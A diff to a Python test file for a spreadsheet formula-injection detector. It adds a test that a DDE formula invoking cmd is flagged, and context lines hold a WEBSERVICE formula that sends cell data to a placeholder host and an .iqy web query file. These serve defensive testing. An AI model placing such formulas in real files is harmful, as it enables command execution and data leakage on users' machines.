@@ -36,6 +36,12 @@ def test_prose_may_quote_formulas() -> None:
     assert codes(list(take_apart(FORMULAS, text, kind="text/plain"))) == set()
 
 
+@pytest.mark.parametrize(("name", "held"), [("table", True), ("", False), ("notes.md", False)])
+def test_a_file_whose_name_says_nothing_may_be_a_table(name: str, held: bool) -> None:
+    found = take_apart(FORMULAS, b"Name,Sum\r\n=cmd|'/c rem'!A0,5\r\n", *([name] if name else []), kind="text/plain")
+    assert ("FORMULA-DDE" in codes(found)) == held
+
+
 def test_query_files_and_calls() -> None:
     assert codes(list(take_apart(FORMULAS, b"WEB\r\n1\r\nhttp://h.example/q\r\n", "a.iqy", kind="text/plain"))) == {"FORMULA-QUERY"}
     assert "FORMULA-CALL" in codes(list(take_apart(FORMULAS, b'a,=WEBSERVICE("http://h.example/"&A1)\n', "a.csv", kind="text/csv")))
